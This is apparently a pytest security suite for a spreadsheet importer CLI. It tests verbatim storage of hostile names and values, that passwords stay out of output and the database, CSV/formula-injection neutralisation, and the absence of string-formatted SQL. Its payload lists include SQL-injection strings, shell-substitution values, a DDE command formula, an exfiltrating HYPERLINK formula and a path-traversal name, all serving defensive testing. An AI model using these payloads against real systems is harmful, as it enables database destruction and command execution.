"""Security basics, through the real CLI in child processes.

- hostile sheet names, headers, values and form names are stored verbatim (parameterized SQL);
- a password in the connection URL never appears in output, errors, status or the database;
- `importer errors -o PATH` writes exactly PATH and neutralises cells a spreadsheet would run
  as formulas (CSV/formula injection), in .csv and .xlsx;
- no module of importer/ builds SQL by formatting values into a string.
"""

from __future__ import annotations

import ast
import csv
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import conninfo_to_dict, make_conninfo

from importer.database import Connection, connect
from importer.repositories.form_tables import table_for
from importer.repositories.forms import get_form
from tests.chaos.procs import Measured, run_measured
from tests.hostile.ooxml import Package, Sheet, rows_xml, sheet_xml
from tests.support.jobs import form_rows

ROOT = Path(__file__).resolve().parents[1]
SECRET = "Sup3r-Secret_pw!42"
HOSTILE_FORM = 'x\'); DROP TABLE forms;-- "q" $(id) %s {0}'
HOSTILE_SHEET = "'; DELETE FROM import_jobs;--"
HEADER_LABEL = "Label'); DROP TABLE form_data;--"
HEADER_QTY = 'Qty "%(x)s" {0} $(id)'
HOSTILE_VALUES = [
    "'; DROP TABLE form_data; --",
    "'); DROP TABLE forms.sec_form; --",
    "\\.",
    "\\N",
    "tab\there\nnewline \\ backslash",
    "%s %(x)s {0} $1 $$",
    "$(touch pwned) `id` | ; &&",
    "\x1b]0;title\x07\x1b[2J",
    "\u202eevil\u202c \U0001f600",
]
FORMULAS = [
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    "\t=1+2",
    "\r=1+2",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _toml(value: str) -> str:
    return json.dumps(value)  # a JSON string is a valid TOML basic string


def _run(env: dict[str, str], cwd: Path, *args: str) -> Measured:
    return run_measured(list(args), env=env, cwd=cwd, timeout=120, rss_limit_mb=2048)


def _form_file(folder: Path, name: str) -> Path:
    path = folder / "sec.form.toml"
    path.write_text(
        f"name = {_toml(name)}\n\n"
        f'[[fields]]\nname = "label"\nheader = {_toml(HEADER_LABEL)}\ntype = "string"\n'
        "required = true\n\n"
        f'[[fields]]\nname = "qty"\nheader = {_toml(HEADER_QTY)}\ntype = "integer"\n'
        "required = true\n",
        encoding="utf-8",
    )
    return path


def _workbook(path: Path, sheet: str, rows: list[list[object]]) -> Path:
    Package(
        [Sheet(sheet, sheet_xml(rows_xml(enumerate([[HEADER_LABEL, HEADER_QTY], *rows], 1))))]
    ).write(path)
    return path


# --- verbatim storage -------------------------------------------------------------------------


def test_hostile_names_headers_and_values_are_stored_verbatim(
    cli_env: dict[str, str], tmp_path: Path, conn: Connection
) -> None:
    added = _run(cli_env, tmp_path, "forms", "add", str(_form_file(tmp_path, HOSTILE_FORM)))
    if added.exit_code == 2:
        # A form loader may restrict names; then the refusal must be one clean line.
        assert len(added.stderr.strip().splitlines()) == 1, added.stderr
        assert conn.execute("SELECT count(*) AS n FROM forms").fetchone() == {"n": 0}
        form = "sec_form"
        assert (
            _run(cli_env, tmp_path, "forms", "add", str(_form_file(tmp_path, form))).exit_code == 0
        )
    else:
        assert added.exit_code == 0, added.stderr
        form = HOSTILE_FORM
        stored = conn.execute("SELECT name FROM forms").fetchall()
        assert stored == [{"name": HOSTILE_FORM}]

    book = _workbook(
        tmp_path / "hostile.xlsx", HOSTILE_SHEET, [[v, i] for i, v in enumerate(HOSTILE_VALUES)]
    )
    done = _run(cli_env, tmp_path, "submit", str(book), "--form", form, "--sheet", HOSTILE_SHEET)
    assert done.exit_code == 0, done.stderr
    job = conn.execute("SELECT * FROM import_jobs").fetchone()
    assert job is not None
    assert job["form"] == form
    assert job["sheet"] == HOSTILE_SHEET
    assert job["header"] == [HEADER_LABEL, HEADER_QTY]
    rows = form_rows(conn, form)  # the form's own table, under its hostile name
    assert [r["label"] for r in rows] == HOSTILE_VALUES
    assert [r["qty"] for r in rows] == list(range(len(HOSTILE_VALUES)))
    assert {r["import_job_id"] for r in rows} == {job["id"]}
    assert not (tmp_path / "pwned").exists()
    # The tables the names and values tried to drop are all still there: the form's table
    # (forms.<its name>) and the tool's own.
    table = table_for(get_form(conn, form)[0])
    assert table.shown == f"forms.{form}"
    names = [table.identifier.as_string(conn), "forms", "import_jobs", "import_rejected_rows"]
    names.append("import_row_errors")
    survived = {
        name: conn.execute("SELECT to_regclass(%s) IS NOT NULL AS t", (name,)).fetchone()
        for name in names
    }
    assert survived == {name: {"t": True} for name in names}


# --- passwords ------------------------------------------------------------------------------


@pytest.fixture
def password_urls(database_url: str, conn: Connection) -> Iterator[list[str]]:
    """The test database reached with a password in the URL (a role that has one)."""
    role = f"pw_{conninfo_to_dict(database_url)['dbname']}"[:60]
    with psycopg.connect(database_url, autocommit=True) as admin:
        admin.execute(
            sql.SQL("CREATE ROLE {} LOGIN SUPERUSER PASSWORD {}").format(
                sql.Identifier(role), sql.Literal(SECRET)
            )
        )
    info = conninfo_to_dict(database_url)
    urls = [make_conninfo(database_url, user=role, password=SECRET)]
    host = str(info.get("host") or "")
    if host and not host.startswith("/"):
        port = info.get("port") or 5432
        urls.insert(0, f"postgresql://{role}:{SECRET}@{host}:{port}/{info['dbname']}")
    yield urls
    with psycopg.connect(database_url, autocommit=True) as admin:
        # `forms add` as this role made the form's typed table, which the role owns.
        admin.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(role)))
        admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))


@pytest.mark.slow
def test_passwords_never_appear(
    cli_env: dict[str, str], tmp_path: Path, password_urls: list[str], database_url: str
) -> None:
    book = _workbook(tmp_path / "pw.xlsx", "Sheet1", [["a", 1], ["b", "not a number"]])
    form = _form_file(tmp_path, "pw_form")
    seen: list[tuple[str, Measured]] = []
    for n, url in enumerate(password_urls):
        env = {**cli_env, "IMPORTER_DATABASE_URL": url}
        commands = [
            ["forms", "add", str(form)],
            ["submit", str(book), "--form", "pw_form", "--force"],
            ["submit", str(book), "--form", "pw_form", "--force", "--json"],
            ["status", "1"],
            ["status", "1", "--json"],
            ["jobs", "--json"],
            ["jobs"],
            ["db", "url"],
            ["db", "migrate"],
            ["stats", "--json"],
            ["timers", "list"],
            ["worker", "--once"],
            ["submit", str(tmp_path / "missing.xlsx"), "--form", "pw_form"],
            ["status", "999999"],
        ]
        # Every command with the first form of the URL; the other form on the essentials.
        for args in commands if n == 0 else [commands[2], commands[4], commands[7]]:
            seen.append((f"{n}: {' '.join(args)}", _run(env, tmp_path, *args)))
    # Unreachable servers: the error line names the server but never the password.
    refused = [
        f"postgresql://someone:{SECRET}@127.0.0.1:1/nowhere",
        f"host=127.0.0.1 port=1 user=someone password={SECRET} dbname=nowhere",
        f"postgresql://someone@127.0.0.1:1/nowhere?password={SECRET}",
    ]
    for url in refused:
        env = {**cli_env, "IMPORTER_DATABASE_URL": url}
        for debug in ([], ["--debug"]):
            m = _run(env, tmp_path, *debug, "jobs")
            seen.append((f"{url} jobs {debug}", m))
            assert m.exit_code == 1, m.stderr
    leaks = [name for name, m in seen if SECRET in m.stdout or SECRET in m.stderr]
    assert not leaks, f"password printed by: {leaks}"
    assert all("Traceback" not in m.stderr for name, m in seen if "--debug" not in name), [
        name for name, m in seen if "Traceback" in m.stderr and "--debug" not in name
    ]
    # ...and never stored (last_error, worker registry, anything).
    with connect(database_url, autocommit=True) as conn:
        tables = [
            r["tablename"]
            for r in conn.execute("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
        ]
        for table in tables:
            row = conn.execute(
                sql.SQL("SELECT count(*) AS n FROM {} t WHERE t::text LIKE {}").format(
                    sql.Identifier(table), sql.Literal(f"%{SECRET}%")
                )
            ).fetchone()
            assert row == {"n": 0}, f"password stored in {table}"


# --- the errors export --------------------------------------------------------------------


@pytest.fixture
def rejected_job(cli_env: dict[str, str], tmp_path: Path, conn: Connection) -> int:
    assert _run(cli_env, tmp_path, "forms", "add", str(_form_file(tmp_path, "inj"))).exit_code == 0
    rows: list[list[object]] = [[value, value] for value in FORMULAS]  # qty is never a number
    rows.append(["fine", 1])
    rows.append(["-12", "-12.5"])  # a plain negative number is not a formula
    book = _workbook(tmp_path / "inj.xlsx", "../../evil", rows)
    done = _run(cli_env, tmp_path, "submit", str(book), "--form", "inj", "--sheet", "../../evil")
    assert done.exit_code == 3, done.stderr
    job = conn.execute("SELECT id FROM import_jobs").fetchone()
    assert job is not None
    return int(job["id"])


def _tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_errors_export_writes_exactly_the_path_given(
    cli_env: dict[str, str], tmp_path: Path, rejected_job: int, suffix: str
) -> None:
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    before = _tree(tmp_path)
    target = out_dir / f"errors{suffix}"
    m = _run(cli_env, tmp_path, "errors", str(rejected_job), "-o", str(target))
    assert m.exit_code == 0, m.stderr
    assert _tree(tmp_path) - before == {f"out/errors{suffix}"}, "files written besides the target"

    # A folder, a missing folder, or an unknown type: refused with one line, nothing written.
    for bad in (out_dir, tmp_path / "missing" / f"x{suffix}", out_dir / "x.txt"):
        snapshot = _tree(tmp_path)
        refused = _run(cli_env, tmp_path, "errors", str(rejected_job), "-o", str(bad))
        assert refused.exit_code == 2, (bad, refused.stderr)
        assert len(refused.stderr.strip().splitlines()) == 1, refused.stderr
        assert _tree(tmp_path) == snapshot


def _exported_cells(path: Path) -> list[list[Any]]:
    if path.suffix == ".csv":
        with path.open(newline="", encoding="utf-8-sig") as handle:
            return list(csv.reader(handle))
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
            assert "externalLink" not in name
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_errors_export_neutralises_formulas(
    cli_env: dict[str, str], tmp_path: Path, rejected_job: int, suffix: str
) -> None:
    target = tmp_path / f"errors{suffix}"
    m = _run(cli_env, tmp_path, "errors", str(rejected_job), "-o", str(target))
    assert m.exit_code == 0, m.stderr
    cells = _exported_cells(target)
    texts = [str(v) for row in cells for v in row if isinstance(v, str)]
    if suffix == ".csv":
        # In CSV every cell is text a spreadsheet parses: none may start like a formula,
        # except plain numbers such as -12.5.
        dangerous = [t for t in texts if t.startswith(FORMULA_START) and not _number(t)]
        assert not dangerous, dangerous
        for value in FORMULAS:
            assert any(t.endswith(value) and t != value for t in texts), f"{value!r} missing"
    else:
        # In xlsx a string cell is never evaluated: values may stay verbatim, as strings.
        # (XML reading turns a lone CR into LF, so compare with line ends normalised.)
        lines = {t.replace("\r", "\n") for t in texts}
        for value in FORMULAS:
            plain = value.replace("\r", "\n")
            assert plain in lines or f"'{plain}" in lines, f"{value!r} missing"
    assert any("-12" in t for t in texts)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- no SQL built by formatting values ----------------------------------------------------------

_EXECUTORS = {"execute", "executemany", "copy", "stream", "mogrify"}


def _is_formatted_string(node: ast.AST) -> bool:
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(v, ast.FormattedValue) for v in node.values)
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Mod, ast.Add)):
        if _is_formatted_string(node.left) or _is_formatted_string(node.right):
            return True
        text_left = isinstance(node.left, ast.Constant) and isinstance(node.left.value, str)
        text_right = isinstance(node.right, ast.Constant) and isinstance(node.right.value, str)
        if isinstance(node.op, ast.Mod):
            return text_left  # "... %s" % value
        # "SELECT ... " + value: text glued to something that is not text
        return (text_left and not isinstance(node.right, ast.Constant)) or (
            text_right and not isinstance(node.left, ast.Constant)
        )
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
        and isinstance(node.func.value, ast.Constant)
        and isinstance(node.func.value.value, str)
    )


def _sql_formatting(tree: ast.AST) -> list[tuple[int, str]]:
    found = []
    formatted_names: dict[str, int] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and _is_formatted_string(node.value):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    formatted_names[target.id] = node.lineno
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call) or not node.args:
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        first = node.args[0]
        if name in _EXECUTORS or name == "SQL":
            if _is_formatted_string(first):
                found.append((node.lineno, f"{name}() of a formatted string"))
            elif isinstance(first, ast.Name) and first.id in formatted_names:
                found.append((node.lineno, f"{name}({first.id}) built by formatting"))
    return found


def test_no_sql_is_built_by_formatting_values() -> None:
    offenders = []
    for path in sorted((ROOT / "importer").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for line, what in _sql_formatting(tree):
            offenders.append(f"{path.relative_to(ROOT)}:{line}: {what}")
    assert not offenders, "\n".join(offenders)


def test_the_sql_check_catches_formatting() -> None:
    bad = ast.parse(
        "def f(conn, x):\n"
        "    conn.execute(f\"SELECT * FROM t WHERE a = '{x}'\")\n"
        "    q = 'SELECT %s' % x\n"
        "    conn.execute(q)\n"
        "    cur.execute('SELECT {}'.format(x))\n"
        "    sql.SQL(f'SELECT {x}')\n"
        "    conn.execute('SELECT ' + x)\n"
    )
    assert len(_sql_formatting(bad)) == 5
    good = ast.parse(
        "def f(conn, x):\n"
        "    conn.execute('SELECT * FROM t WHERE a = %s', (x,))\n"
        "    conn.execute(sql.SQL('SELECT {}').format(sql.Identifier(x)))\n"
    )
    assert _sql_formatting(good) == []
